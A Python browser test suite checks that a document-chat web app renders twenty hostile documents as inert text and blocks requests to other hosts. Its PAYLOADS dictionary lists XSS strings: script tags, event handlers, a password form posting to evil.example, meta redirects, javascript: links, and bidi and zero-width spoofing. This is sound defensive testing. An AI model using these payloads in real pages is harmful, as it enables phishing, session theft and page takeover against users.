"""Twenty documents that would take the page over: not one gets a dialog, a request to another host, or a place on the page of its own."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any, cast

import pytest

from assistant import Assistant
from tests.browser.conftest import Chat, serving
from tests.fake_assistant import FakeAssistant, document_of
from ui_parts import texts

EVIL = "http://evil.example"
PAYLOADS = {
    "script": f"<script>alert(1)</script><script src={EVIL}/a.js></script>",
    "image-handler": "<img src=x onerror=alert(1)><svg onload=alert(2)><body onload=alert(3)>",
    "remote-image": f'<img src="{EVIL}/a.png" srcset="{EVIL}/b.png 2x"><picture><source srcset="{EVIL}/c.png"></picture>',
    "markdown-image": f"![x]({EVIL}/p.png) [![y]({EVIL}/q.png)]({EVIL})",
    "form": f'<form action="{EVIL}/steal"><input name=password type=password autofocus><button formaction=javascript:alert(1)>Log in</button></form>',
    "overlay": '<div style="position:fixed;inset:0;z-index:99999;background:red">Your session has ended</div>',
    "style": f"<style>body{{display:none}}@import url({EVIL}/s.css);</style><link rel=stylesheet href={EVIL}/t.css>",
    "svg": f'<svg><image href="{EVIL}/i.svg"/><script>alert(1)</script><use href="{EVIL}/u.svg#x"/><foreignObject><iframe src={EVIL}></iframe></foreignObject></svg>',
    "javascript-link": '[press](javascript:alert(1)) <a href="javascript:alert(2)" data-do="ask" data-question="owned">press</a>',
    "template": "${alert(1)} ${eval(String.fromCharCode(97,108,101,114,116,40,49,41))} {{value}} {{#each value}}x{{/each}} `tick` \\u003cscript>",
    "frames": f'<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data={EVIL}></object><embed src={EVIL}><video src={EVIL}/v.mp4 autoplay>',
    "meta": f'<meta http-equiv=refresh content="0;url={EVIL}"><base href="{EVIL}/">',
    "events": '<b onclick=alert(1) onmouseover=alert(2) id=panel class="turn answer" data-do="remove" data-id="1" tabindex=0 contenteditable>bold</b>',
    "closing": '</p></div></section></article></mark>--><!-- </script> ]]> "\' onfocus=alert(1) x="',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e; &amp;lt;b&amp;gt;",
    "bidi": "\u202egnp.exe\u202c \u2066\u2067evil\u2069 \u200f\u202dCancel\u202c abc",
    "zero-width": "\u200b\u200c\u200d\u2060\ufeff in\u200bvis\u200dible \u200b",
    "huge-line": "A" * 60_000,
    "combining": "z" + "\u0321\u0332\u0303\u0300" * 3_000 + " \U0001f468\u200d\U0001f469\u200d\U0001f467" * 50,
    "math": "$$\\href{javascript:alert(1)}{x}$$ \\(\\includegraphics{http://evil.example/x.png}\\) $5 and $6 | a | b |\t\x1b[31mred",
}


class Echoing(FakeAssistant):
    """Its suggestions are as hostile as its documents."""

    def suggestions(self, limit: int = 4, **_: Any) -> list[str]:
        return [f"{payload[:300]} ?" for payload in PAYLOADS.values()][:limit]


@pytest.fixture(scope="module")
def address() -> Iterator[str]:
    documents = [
        document_of(f"{payload}\n\nThe word zebra{n} stands beside {payload}\n\n| a | {payload} |\n", f"{payload[:200]}.txt", payload[:300])
        for n, payload in enumerate(PAYLOADS.values())
    ]
    assert len(documents) == 20
    with serving(cast(Assistant, Echoing(*documents))) as address:
        yield address


@pytest.mark.parametrize(("n", "name"), list(enumerate(PAYLOADS)), ids=list(PAYLOADS))
def test_a_hostile_document_is_read_letter_by_letter(browser: Any, address: str, n: int, name: str) -> None:
    payload = PAYLOADS[name]
    chat = Chat(browser, address)
    turn = chat.ask(f"What does the word zebra{n} stand beside? {payload[:300]}")
    turn.locator(".chip").first.click()
    chat.page.wait_for_selector("#panel mark")
    shown = chat.page.evaluate("document.querySelector('#panel .text').textContent")
    assert bare(payload) in bare(shown)
    made = chat.page.evaluate(
        """() => [...document.querySelectorAll('#thread, #live, #panel, #conversations, #documents, #scope, #facts-table')].flatMap((part) =>
            [...part.querySelectorAll('img, script, iframe, form:not([data-send]), style, link, meta, video, object, embed, base, image, use, b, [onclick]')])
            .map((one) => one.outerHTML)"""
    )
    assert made == []
    usable(chat)
    chat.close()


def bare(text: str) -> str:
    """Without white space, and without the bars that a table is drawn from."""
    return "".join(text.replace("|", "").split())


def usable(chat: Chat) -> None:
    """Every view opens, nothing reaches out of its place, and another question is answered."""
    page = chat.page
    for view in ("documents", "facts"):
        chat.view(view)
        page.wait_for_selector("#documents li" if view == "documents" else ".fact-table tr, #facts .empty")
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    chat.view("chat")
    on_top = page.evaluate(
        """() => { const box = document.querySelector('#question textarea').getBoundingClientRect();
            return !!document.elementFromPoint(box.x + 20, box.y + box.height / 2).closest('#question'); }"""
    )
    assert on_top
    assert page.evaluate("[...document.querySelectorAll('.turn *')].every((one) => getComputedStyle(one).position !== 'fixed')")
    assert chat.ask("Who won the zebra1 race?").locator(".answer").count() == 1


def test_all_of_them_at_once_in_every_list(browser: Any, address: str) -> None:
    chat = Chat(browser, address)
    chat.page.wait_for_selector(".welcome .suggestion")
    chat.view("documents")
    chat.page.wait_for_function("document.querySelectorAll('#documents li').length === 20")
    assert chat.page.locator("#documents .title").evaluate_all("(all) => all.every((one) => one.textContent.trim())")
    chat.photograph("hostile-documents")
    chat.view("chat")
    chat.page.click("#scope summary")
    assert chat.page.locator("#scope label").count() == 21
    chat.page.wait_for_timeout(300)
    chat.close()


def test_a_policy_forbids_other_hosts_all_the_same(browser: Any, address: str) -> None:
    chat = Chat(browser, address)
    answer = chat.page.request.get(address)
    assert "default-src 'self'" in answer.headers["content-security-policy"]
    outcome = chat.page.evaluate(f"fetch('{EVIL}/x').then(() => 'sent', () => 'stopped')")
    assert texts.NAME in answer.text()
    chat.context.close()
    assert outcome == "stopped"


def test_nothing_of_the_chat_is_a_public_endpoint_or_shows_what_others_do(browser: Any, address: str) -> None:
    chat = Chat(browser, address)
    get = chat.page.request.get
    assert get(f"{address}/gradio_api/info").json() == {"named_endpoints": {}, "unnamed_endpoints": {}}
    assert get(f"{address}/monitoring/summary").status == 403
    assert get(f"{address}/gradio_api/file=.assistant/catalog.db").status in (403, 404)
    chat.close()
